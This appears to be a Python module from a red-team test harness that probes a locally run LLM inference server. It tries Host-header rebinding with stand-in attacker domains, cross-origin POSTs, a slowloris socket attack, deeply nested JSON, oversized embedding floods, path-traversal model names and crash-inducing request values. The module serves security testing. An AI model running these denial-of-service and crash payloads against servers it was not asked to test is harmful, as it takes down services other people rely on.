"""The attack categories of the red-team campaign, one function each.

Each takes the :class:`Target`, the :class:`Row` it fills and a :class:`Models` context, and
is bounded in request count and time. Requests that generate ask for a couple of tokens.
Worker crashes and outages are not counted here: the campaign reads ``/health`` around each
category (see :func:`bench.redteam.run_category`).
"""

from __future__ import annotations

import json
import logging
import socket
import statistics
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

from bench.redteam_target import Answer, Row, Target, crashes_between

logger = logging.getLogger(__name__)


@dataclass
class Models:
    """What the target serves, and what earlier categories learned (payloads that crash)."""

    chat: str
    embed: str | None
    crashers: list[tuple[str, str, dict[str, Any]]] = field(default_factory=list)


def chat_body(model: str, text: str = "hi") -> dict[str, Any]:
    return {"model": model, "messages": [{"role": "user", "content": text}], "max_tokens": 2}


def generation_requests(models: Models) -> list[tuple[str, dict[str, Any]]]:
    """A small valid request for each POST route that does work (path, JSON body)."""
    chat = models.chat
    requests: list[tuple[str, dict[str, Any]]] = [
        ("/v1/chat/completions", chat_body(chat)),
        ("/v1/completions", {"model": chat, "prompt": "hi", "max_tokens": 2}),
        ("/api/chat", {**chat_body(chat), "stream": False, "options": {"num_predict": 2}}),
        (
            "/api/generate",
            {"model": chat, "prompt": "hi", "stream": False, "options": {"num_predict": 2}},
        ),
    ]
    if models.embed:
        requests.append(("/api/embed", {"model": models.embed, "input": "hi"}))
        requests.append(("/v1/embeddings", {"model": models.embed, "input": "hi"}))
    return requests


# ---- Host and Origin -----------------------------------------------------------------------

# Names a DNS-rebinding page could make resolve to 127.0.0.1 (nip.io really does).
REBINDING_HOSTS = [
    "127.evil.example",
    "127.0.0.1.rebind.attacker.example",
    "127.0.0.1.nip.io",
    "evil.example",
    "evil.example:{port}",
    "localhost.evil.example",
    "127.0.0.1:{port}.evil.example",
]


def host_rebinding(target: Target, row: Row, models: Models) -> None:
    """Requests whose Host is an attacker's name: any answer but 403 is a bypass."""
    routes = [
        ("GET", "/v1/models", None),
        *(("POST", p, b) for p, b in generation_requests(models)[:2]),
    ]
    served: set[str] = set()
    for template in REBINDING_HOSTS:
        host = template.format(port=target.port)
        for method, path, body in routes:
            answer = target.send(row, method, path, body=body, headers={"Host": host})
            if answer.served:
                row.bypasses += 1
                served.add(host)
    if served:
        row.note("served for Host " + ", ".join(sorted(served)))


CROSS_ORIGINS = ["https://evil.example", "null", "http://127.evil.example"]
# Content types a page may POST cross-origin without a CORS preflight.
SIMPLE_TYPES = [
    "text/plain",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
]


def cross_origin(target: Target, row: Row, models: Models) -> None:
    """Cross-origin "simple" POSTs (no preflight): the work is done even if unreadable."""
    served: set[str] = set()
    readable = 0
    for origin in CROSS_ORIGINS:
        for kind in SIMPLE_TYPES:
            for path, body in generation_requests(models):
                headers = {"Origin": origin, "Content-Type": kind}
                answer = target.send(
                    row, "POST", path, content=json.dumps(body).encode(), headers=headers
                )
                if answer.served:
                    row.bypasses += 1
                    served.add(path)
                    readable += "access-control-allow-origin" in answer.headers
    if served:
        row.note(f"served cross-origin on {', '.join(sorted(served))}")
    if readable:
        row.note(f"{readable} answers readable by the page (ACAO granted)")


# ---- slowloris -----------------------------------------------------------------------------


@dataclass
class _SlowSocket:
    sock: socket.socket
    opened: float
    closed: float | None = None


def slowloris(
    target: Target, row: Row, models: Models, sockets: int = 256, seconds: float = 20.0
) -> None:
    """Sockets that send headers (half of them: a body) one line a second, for ``seconds``.

    Notes how long the server kept them open and how fast ``/health`` answered meanwhile.
    """
    slow: list[_SlowSocket] = []
    for i in range(sockets):
        sock = socket.create_connection(("127.0.0.1", target.port), timeout=5)
        sock.setblocking(False)
        head = f"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1:{target.port}\r\n"
        if i % 2:  # headers complete, then a body that never ends
            head += "Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{"
        sock.send(head.encode())
        slow.append(_SlowSocket(sock, time.monotonic()))
        row.attempts += 1
    started = time.monotonic()
    health_times: list[float] = []
    while time.monotonic() - started < seconds and any(s.closed is None for s in slow):
        for i, item in enumerate(slow):
            if item.closed is None and not _trickle(item.sock, body=bool(i % 2)):
                item.closed = time.monotonic()
        began = time.monotonic()
        if target.health() is not None:
            health_times.append(time.monotonic() - began)
        time.sleep(1.0)
    for item in slow:
        item.sock.close()
    open_for = [(s.closed or time.monotonic()) - s.opened for s in slow]
    still_open = sum(s.closed is None for s in slow)
    row.note(
        f"{still_open}/{sockets} sockets still open when the script stopped at {seconds:.0f} s "
        f"(median open {statistics.median(open_for):.1f} s)"
    )
    if health_times:
        row.note(f"/health meanwhile: max {max(health_times):.2f} s")
    else:
        row.note("/health did not answer while the sockets were open")


def _trickle(sock: socket.socket, *, body: bool) -> bool:
    """One more header line (or body byte); False once the server has closed or answered."""
    try:
        sock.recv(1, socket.MSG_PEEK)  # EOF or an answer: the server is done with it
        return False
    except BlockingIOError:
        pass  # nothing to read: still open
    except OSError:
        return False
    try:
        sock.send(b" " if body else b"X-Slow: 1\r\n")
    except OSError:
        return False
    return True


# ---- deep JSON -----------------------------------------------------------------------------

DEPTH = 10_000


def deep_json(target: Target, row: Row, models: Models) -> None:
    """10,000 nested arrays or objects, as a field and as the whole body, on every JSON route."""
    arrays = "[" * DEPTH + "]" * DEPTH
    objects = '{"a":' * DEPTH + "1" + "}" * DEPTH
    statuses: dict[int, int] = {}
    for path, body in [*generation_requests(models), ("/api/show", {"model": models.chat})]:
        for nested in (arrays, objects):
            payloads = [nested, '{"model": ' + nested + "}", _with_field(body, "stop", nested)]
            for payload in payloads:
                headers = {"Content-Type": "application/json"}
                answer = target.send(row, "POST", path, content=payload.encode(), headers=headers)
                statuses[answer.status] = statuses.get(answer.status, 0) + 1
    row.note("statuses " + ", ".join(f"{s}x{n}" for s, n in sorted(statuses.items())))


def _with_field(body: dict[str, Any], name: str, raw: str) -> str:
    text = json.dumps(body)
    return text[:-1] + f', "{name}": {raw}}}'


# ---- large inputs --------------------------------------------------------------------------


def large_inputs(
    target: Target,
    row: Row,
    models: Models,
    inputs: int = 200_000,
    bound: float = 60.0,
    recovery: float = 180.0,
) -> None:
    """``/api/embed`` with ``inputs`` texts: refused, or how long does it hold the engine?

    While it runs, a small chat must still be answered; if the client gives up at
    ``bound`` seconds, how long until chats are served again (at most ``recovery``)?
    """
    baseline = _chat_seconds(target, row, models, timeout=30.0)
    row.note(f"chat alone: {_fmt(baseline)}")
    oversized = [
        ("/v1/embeddings", {"model": models.embed or models.chat, "input": ["a"] * 2049}),
        ("/api/generate", {"model": models.chat, "prompt": "a " * 2_000_000, "stream": False}),
    ]
    for path, body in oversized:
        answer = target.send(row, "POST", path, body=body, timeout=bound)
        row.note(f"{path} oversized: {answer.status or answer.error} in {answer.seconds:.1f} s")
    if models.embed is None:
        row.note("no embedding model on the server: /api/embed flood skipped")
        return
    flood: list[Answer] = []
    tally = Row("flood")  # the flood thread counts here; merged once it is joined
    body = {"model": models.embed, "input": ["a"] * inputs}
    worker = threading.Thread(
        target=lambda: flood.append(
            target.send(tally, "POST", "/api/embed", body=body, timeout=bound)
        )
    )
    worker.start()
    time.sleep(1.0)
    during = _chat_seconds(target, row, models, timeout=30.0)
    row.note(f"chat during the flood: {_fmt(during)}")
    worker.join(bound + 10)
    row.add(tally)
    flooded = flood[0] if flood else None
    if flooded is not None and flooded.status:
        row.note(f"/api/embed x{inputs}: {flooded.status} in {flooded.seconds:.1f} s")
        return
    row.note(f"/api/embed x{inputs}: no answer within {bound:.0f} s (client gave up)")
    gave_up = time.monotonic()
    while time.monotonic() - gave_up < recovery:
        if _chat_seconds(target, row, models, timeout=5.0) is not None:
            row.note(f"chats served again {time.monotonic() - gave_up:.0f} s after the client left")
            return
        time.sleep(2.0)
    row.note(f"chats still not served {recovery:.0f} s after the client left")


def _chat_seconds(target: Target, row: Row, models: Models, timeout: float) -> float | None:
    answer = target.send(
        row, "POST", "/v1/chat/completions", body=chat_body(models.chat), timeout=timeout
    )
    return answer.seconds if answer.served else None


def _fmt(seconds: float | None) -> str:
    return "no answer" if seconds is None else f"{seconds:.2f} s"


# ---- model names ---------------------------------------------------------------------------


def name_variants(name: str) -> list[str]:
    """Spellings of ``name`` that must not be served as some other model, nor crash."""
    return [
        name.upper(),
        name.title(),
        f" {name}",
        f"{name} ",
        f"{name}:LATEST",
        name.replace("-", "_"),
        f"{name}\u200b",
        "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in name),  # full width
        f"./{name}",
        f"{name}/.",
        f"..\\{name}",
    ]


def case_variants(target: Target, row: Row, models: Models) -> None:
    """Variant spellings of the served model names on every route that takes a name."""
    before = target.health() or {}
    served: set[str] = set()
    for name in name_variants(models.chat):
        in_path = quote(name, safe="").replace(".", "%2E")  # else the client drops ./ segments
        routes: list[tuple[str, str, dict[str, Any] | None]] = [
            ("POST", "/v1/chat/completions", chat_body(name)),
            ("POST", "/api/chat", {**chat_body(name), "stream": False}),
            ("POST", "/api/generate", {"model": name, "prompt": "hi", "stream": False}),
            ("POST", "/api/show", {"model": name}),
            ("GET", f"/v1/models/{in_path}", None),
            ("GET", f"/api/v0/models/{in_path}", None),
        ]
        for method, path, body in routes:
            if target.send(row, method, path, body=body).served:
                served.add(f"{path.split('/models/')[0]} {name!r}")
    if models.embed:
        for name in name_variants(models.embed):
            for path in ("/api/embed", "/v1/embeddings"):
                if target.send(row, "POST", path, body={"model": name, "input": "hi"}).served:
                    served.add(f"{path} {name!r}")
    after = target.health() or {}
    if served:
        row.note("served: " + ", ".join(sorted(served)))
    if before.get("model") != after.get("model") or before.get("load_seconds") != after.get(
        "load_seconds"
    ):
        row.note(f"loaded model changed: {before.get('model')} -> {after.get('model')}")


# ---- hostile values ------------------------------------------------------------------------

CRASH_WINDOW = 60.0  # the engine gives up after three worker crashes within this window
Payload = tuple[str, str, dict[str, Any]]


def hostile_payloads(models: Models) -> list[Payload]:
    """Known-hostile values, one request each (name, path, body)."""
    chat, embed = models.chat, models.embed or models.chat
    surrogate = "\ud800"

    def schema_chat(schema: Any) -> dict[str, Any]:
        fmt = {"type": "json_schema", "json_schema": {"name": "x", "schema": schema}}
        return {**chat_body(chat), "response_format": fmt}

    def tool_chat(schema: Any) -> dict[str, Any]:
        tool = {"type": "function", "function": {"name": "f", "parameters": schema}}
        return {**chat_body(chat), "tools": [tool], "tool_choice": "required"}

    schemas: dict[str, Any] = {
        "recursive $ref": {"$ref": "#"},
        "recursive $defs": {"$defs": {"a": {"$ref": "#/$defs/a"}}, "$ref": "#/$defs/a"},
        "lookbehind pattern": {"type": "string", "pattern": "(?<=a)b"},
        "huge repeat pattern": {"type": "string", "pattern": "a{1000000}"},
        "minLength 1e9": {"type": "string", "minLength": 10**9},
        "minItems 1e9": {"type": "array", "minItems": 10**9},
        "min > max": {"type": "integer", "minimum": 10, "maximum": 1},
        "empty enum": {"enum": []},
        "empty anyOf": {"anyOf": []},
        "multipleOf 0": {"type": "number", "multipleOf": 0},
    }
    payloads: list[Payload] = [
        (
            "surrogate in prompt (completions)",
            "/v1/completions",
            {"model": chat, "prompt": surrogate, "max_tokens": 2},
        ),
        ("surrogate in message (chat)", "/v1/chat/completions", chat_body(chat, surrogate)),
        (
            "surrogate in prompt (generate raw)",
            "/api/generate",
            {"model": chat, "prompt": surrogate, "raw": True, "stream": False},
        ),
        ("surrogate in model", "/v1/chat/completions", chat_body(surrogate)),
        ("surrogate in stop", "/v1/chat/completions", {**chat_body(chat), "stop": [surrogate]}),
        ("surrogate in embed input", "/api/embed", {"model": embed, "input": [surrogate]}),
        ("seed -1", "/v1/chat/completions", {**chat_body(chat), "seed": -1}),
        ("seed 2**64", "/v1/chat/completions", {**chat_body(chat), "seed": 2**64}),
        (
            "ollama seed 2**64",
            "/api/generate",
            {
                "model": chat,
                "prompt": "hi",
                "stream": False,
                "options": {"seed": 2**64, "num_predict": 2},
            },
        ),
        ("temperature 5e-324", "/v1/chat/completions", {**chat_body(chat), "temperature": 5e-324}),
        (
            "ollama temperature inf",
            "/api/generate",
            {
                "model": chat,
                "prompt": "hi",
                "stream": False,
                "options": {"temperature": float("inf"), "num_predict": 2},
            },
        ),
        (
            "ollama top_k 2**64",
            "/api/generate",
            {
                "model": chat,
                "prompt": "hi",
                "stream": False,
                "options": {"top_k": 2**64, "num_predict": 2},
            },
        ),
        ("max_tokens 2**64", "/v1/chat/completions", {**chat_body(chat), "max_tokens": 2**64}),
        (
            "num_predict 2**64",
            "/api/generate",
            {"model": chat, "prompt": "hi", "stream": False, "options": {"num_predict": 2**64}},
        ),
        (
            "top_logprobs 20 + logprobs",
            "/v1/chat/completions",
            {**chat_body(chat), "logprobs": True, "top_logprobs": 20},
        ),
        *(
            (f"response_format {k}", "/v1/chat/completions", schema_chat(v))
            for k, v in schemas.items()
        ),
        *((f"tool schema {k}", "/v1/chat/completions", tool_chat(v)) for k, v in schemas.items()),
        *(
            (f"ollama format {k}", "/api/chat", {**chat_body(chat), "stream": False, "format": v})
            for k, v in schemas.items()
        ),
    ]
    return payloads


def hostile_values(target: Target, row: Row, models: Models, recovery: float = 30.0) -> None:
    """Each hostile payload once; crashes are spaced out so every crasher gets mapped.

    The engine gives up after three crashes within a minute; waiting between crashes keeps
    it alive so the rest of the list still runs (:func:`crash_loop` shows the give-up).
    """
    crashes: list[float] = []
    errors: list[str] = []
    for name, path, body in hostile_payloads(models):
        before = target.health()
        if before is None or before.get("status") != "ready":
            row.note(f"engine not ready before '{name}'; stopped")
            return
        answer = target.send(row, "POST", path, body=body)
        if answer.status >= 500 and answer.status not in (501, 503):
            errors.append(f"{name} ({answer.status})")
        after = target.wait_ready(recovery)
        if crashes_between(before, after or target.health()):
            models.crashers.append((name, path, body))
            crashes.append(time.monotonic())
            recent = [t for t in crashes if time.monotonic() - t < CRASH_WINDOW]
            if len(recent) >= 2 and after is not None:
                time.sleep(max(0.0, CRASH_WINDOW - (time.monotonic() - recent[0])) + 1)
        if after is None:
            row.note(f"not ready {recovery:.0f} s after '{name}'; stopped")
            return
    if errors:
        row.note("5xx: " + ", ".join(errors))
    if models.crashers:
        row.note("worker crashed on: " + ", ".join(n for n, _, _ in models.crashers))


def crash_loop(target: Target, row: Row, models: Models, recovery: float = 30.0) -> None:
    """The first crashing payload, sent again up to three times: does the engine come back?"""
    if not models.crashers:
        row.note("no payload crashed the worker; nothing to repeat")
        return
    name, path, body = models.crashers[0]
    for attempt in range(1, 4):
        target.send(row, "POST", path, body=body)
        if target.wait_ready(recovery) is None:
            health = target.health() or {}
            row.note(
                f"'{name}' x{attempt}: engine {health.get('status', 'unreachable')}: "
                f"{health.get('message')}"
            )
            return
    row.note(f"'{name}' x3: engine recovered every time")


Attack = Callable[[Target, Row, Models], None]
